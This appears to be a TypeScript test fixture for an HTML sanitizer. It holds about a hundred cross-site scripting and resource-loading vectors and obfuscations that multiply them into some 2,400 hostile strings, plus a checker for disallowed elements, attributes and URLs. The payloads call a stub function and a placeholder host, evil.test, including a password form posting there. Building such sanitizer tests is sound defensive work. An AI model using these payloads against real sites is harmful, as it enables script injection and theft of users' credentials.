/*
 * Markup that must never run, load or be kept, each in several obfuscations. Scripts call `hacked()`; requests and
 * links go to the host evil.test.
 */

const evil = 'https://evil.test';

/** Browsers run, load or apply these unless something prevents it. */
const vectors: readonly string[] = [
  '<script>hacked()</script>',
  `<script src="${evil}/a.js"></script>`,
  '<script type="module">hacked()</script>',
  '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.test/p"]}]}</script>',
  '<img src="x" onerror="hacked()">',
  '<img src=x onerror=hacked()//',
  '<img/src=x/onerror=hacked()>',
  `<img src="https://fotos.test/a.png" srcset="${evil}/b.png 2x" onload="hacked()">`,
  '<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=hacked()>">',
  '<img src="http://evil.test/a.png">',
  '<img src="//evil.test/a.png">',
  '<img lowsrc="javascript:hacked()" dynsrc="javascript:hacked()">',
  '<svg onload="hacked()"></svg>',
  '<svg><script>hacked()</script></svg>',
  '<svg><a xlink:href="javascript:hacked()"><text x="9" y="9">a</text></a></svg>',
  '<svg><animate onbegin="hacked()" attributeName="x" dur="1s"></svg>',
  '<svg><a><set attributeName="href" to="javascript:hacked()"/><text>a</text></a></svg>',
  `<svg><image href="${evil}/a.svg"/><use href="${evil}/a.svg#a"/></svg>`,
  '<svg><style>@import "https://evil.test/a.css";</style></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hacked()</script>"></iframe></foreignObject></svg>',
  '<math><mi xlink:href="javascript:hacked()">a</mi></math>',
  '<math><maction actiontype="statusline#https://evil.test" xlink:href="javascript:hacked()">a</maction></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked()&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=hacked()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked()>',
  '<math><annotation-xml encoding="text/html"><style><img src onerror=hacked()></style></annotation-xml></math>',
  `<meta http-equiv="refresh" content="0;url=${evil}/">`,
  `<meta http-equiv="Set-Cookie" content="a=b">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="${evil}/">`,
  `<base target="_top">`,
  `<link rel="stylesheet" href="${evil}/a.css">`,
  `<link rel="preload" as="script" href="${evil}/a.js"><link rel="prefetch" href="${evil}/p">`,
  `<link rel="import" href="${evil}/a.html">`,
  `<style>@import url(${evil}/a.css);body{background:url(${evil}/b.png)}</style>`,
  `<p style="background:url(${evil}/a.png)">a</p>`,
  `<p style="background-color:url(${evil}/a.png)">a</p>`,
  '<p style="position:fixed;inset:0;z-index:9999">a</p>',
  '<span style="color:expression(hacked());behavior:url(https://evil.test/a.htc)">a</span>',
  `<span style="color:red;background-image:\\75 rl('${evil}/a.png')">a</span>`,
  `<iframe src="${evil}/"></iframe>`,
  '<iframe src="javascript:parent.hacked()"></iframe>',
  '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
  `<frameset><frame src="${evil}/"></frameset>`,
  `<object data="${evil}/a.swf"></object>`,
  '<object data="javascript:hacked()"></object>',
  `<embed src="${evil}/a.swf">`,
  `<applet code="a" codebase="${evil}/"></applet>`,
  `<form action="${evil}/"><input name="password"><button>Entrar</button></form>`,
  '<form id="document"><input name="body"></form>',
  '<button formaction="javascript:hacked()">a</button>',
  '<input autofocus onfocus="hacked()">',
  '<input type="image" src="https://evil.test/a.png">',
  '<select autofocus onfocus="hacked()"><option>a</select>',
  '<textarea autofocus onfocus="hacked()"></textarea>',
  '<keygen autofocus onfocus="hacked()">',
  '<isindex action="javascript:hacked()" prompt="a">',
  '<a href="javascript:hacked()">a</a>',
  '<a href="JaVaScRiPt:hacked()">a</a>',
  '<a href=" &#1;javascript:hacked()">a</a>',
  '<a href="java&#x0A;script:hacked()">a</a>',
  '<a href="javascript&colon;hacked()">a</a>',
  '<a href="java\uFFFEscript:hacked()">a</a>',
  '<a href="vbscript:hacked()">a</a>',
  '<a href="data:text/html,<script>opener.hacked()</script>">a</a>',
  '<a href="blob:https://evil.test/a">a</a>',
  '<a href="view-source:https://evil.test/">a</a>',
  '<a href="//evil.test/">a</a>',
  '<a href="/\\evil.test/">a</a>',
  `<a href="#" ping="${evil}/">a</a>`,
  '<a href="#" onclick="hacked()">a</a>',
  '<a id="location" name="location" href="javascript:hacked()">a</a>',
  '<img name="body"><img id="getElementById" name="cookie">',
  '<p id="content" class="modal" slot="a" is="a-b" part="article">a</p>',
  '<p contenteditable autofocus onfocus="hacked()" tabindex="0">a</p>',
  '<p onmouseover="hacked()" onpointerenter="hacked()">a</p>',
  '<p onanimationstart="hacked()" style="animation-name:a">a</p>',
  '<details open ontoggle="hacked()"><summary>a</summary></details>',
  '<div popover id="x" onbeforetoggle="hacked()">a</div><button popovertarget="x">a</button>',
  '<dialog open onclose="hacked()"><form method="dialog">a</form></dialog>',
  '<marquee onstart="hacked()">a</marquee>',
  '<body onload="hacked()" background="https://evil.test/a.png">',
  '<html onclick="hacked()" manifest="https://evil.test/a.appcache">',
  `<video poster="${evil}/a.png" autoplay><source src="${evil}/a.mp4" onerror="hacked()"></video>`,
  `<audio src="${evil}/a.mp3" autoplay onerror="hacked()"></audio>`,
  `<track src="${evil}/a.vtt" default><picture><source srcset="${evil}/a.webp"></picture>`,
  '<table background="https://evil.test/a.png"><td background="https://evil.test/b.png" onclick="hacked()">a</table>',
  '<template><script>hacked()</script></template>',
  '<template shadowrootmode="open"><script>hacked()</script></template>',
  '<portal src="https://evil.test/"></portal>',
  '<x-a onclick="hacked()" style="all:initial">a</x-a>',
  '<?xml-stylesheet href="https://evil.test/a.xsl"?><!DOCTYPE a [<!ENTITY b SYSTEM "https://evil.test/b">]>',
  '<![CDATA[<img src=x onerror=hacked()>]]>',
  '<!--[if gte IE 4]><script>hacked()</script><![endif]-->',
  '<noscript><p title="</noscript><img src=x onerror=hacked()>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=hacked()>"></xmp>',
  '<plaintext><img src=x onerror=hacked()>',
  '<blockquote cite="javascript:hacked()"><q cite="javascript:hacked()">a</q></blockquote>',
  '<ol type="javascript:hacked()" start="1" onclick="hacked()"><li value="1" onclick="hacked()">a</li></ol>',
];

const mixedCase = (markup: string) =>
  markup.replace(/<\/?[a-z]+/gi, (tag) => [...tag].map((sign, at) => (at % 2 ? sign.toUpperCase() : sign)).join(''));

/** Obfuscations that may mislead a sanitizer. */
const disguises: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  mixedCase,
  (markup) => markup.replaceAll(' ', '\n\t'),
  (markup) => markup.replaceAll(' ', '/'),
  (markup) => markup.replaceAll('"', "'"),
  (markup) => markup.replaceAll('"', ''),
  (markup) => markup.replaceAll('"', '`'),
  (markup) => markup.slice(0, -1),
  (markup) => `<${markup}`,
  (markup) => markup.replace(/<([a-z]+)/i, '<$1<$1'),
  (markup) => `<p title="${markup}">a</p>`,
  (markup) => `<p title='a'"${markup}">a</p>`,
  (markup) => `<img src="https://fotos.test/a.png" alt="${markup}`,
  (markup) => `<!-->${markup}-->`,
  (markup) => `<!-- --!>${markup}<!-- -->`,
  (markup) => `<svg><desc>${markup}</desc></svg>`,
  (markup) => `<math><mtext>${markup}</mtext></math>`,
  (markup) => `<noscript><style>${markup}</style></noscript>`,
  (markup) => `<textarea></textarea/>${markup}`,
  (markup) => `<title><a href="</title>${markup}">`,
  (markup) => `<select><option>${markup}</option></select>`,
  (markup) => `<table><tr>${markup}<td>`,
  (markup) => `<iframe></p>${markup}</iframe>`,
  (markup) => `&lt;p&gt;${markup}&lt;/p&gt;`,
  (markup) => markup.replace(/(on[a-z]+|href|src)=/gi, '\u0001$1\u000c='),
];

/** Some 2,400 texts. */
export const hostileMarkup: readonly string[] = [
  ...new Set(vectors.flatMap((vector) => disguises.map((disguise) => disguise(vector)))),
];

/**
 * The elements, attributes and addresses below an element that rich text may not have. It also runs inside a page, so
 * it uses only its argument. Form controls, classes, ARIA labels and `data-…` may be the page's and the editor's own.
 */
export function forbiddenBelow(root: ParentNode): string[] {
  const elements =
    /^(div|p|h[1-6]|blockquote|ul|ol|li|hr|br|strong|em|u|s|span|a|img|table|colgroup|col|thead|tbody|tr|th|td)$/;
  const attributes =
    /^(href|target|rel|src|alt|title|width|height|loading|decoding|start|type|colspan|rowspan|style|class|contenteditable|draggable|tabindex|role|aria-[a-z]+|data-[a-z-]+)$/;
  const image = /^(https:|\/storage\/v1\/object\/public\/media\/[\da-f]{32}\.(webp|jpg)$)/;
  const declaration = /^(color|background-color|text-align|min-width): ?(?!.*url)[^:]*$/;
  const faults = (element: Element): string[] => {
    const { href } = element as HTMLAnchorElement;
    const src = element.getAttribute('src');
    return [
      ...(elements.test(element.localName) ? [] : [`<${element.localName}>`]),
      ...[...element.attributes].filter(({ name }) => !attributes.test(name)).map(({ name }) => `${name}=`),
      ...(element.hasAttribute('href') && !/^(https?|mailto|tel):/.test(href) ? [href] : []),
      ...(src === null || image.test(src) ? [] : [src]),
      ...(element.getAttribute('style') ?? '')
        .split(';')
        .map((part) => part.trim())
        .filter((part) => part !== '' && !declaration.test(part)),
    ];
  };
  return [...root.querySelectorAll('*')].flatMap(faults);
}
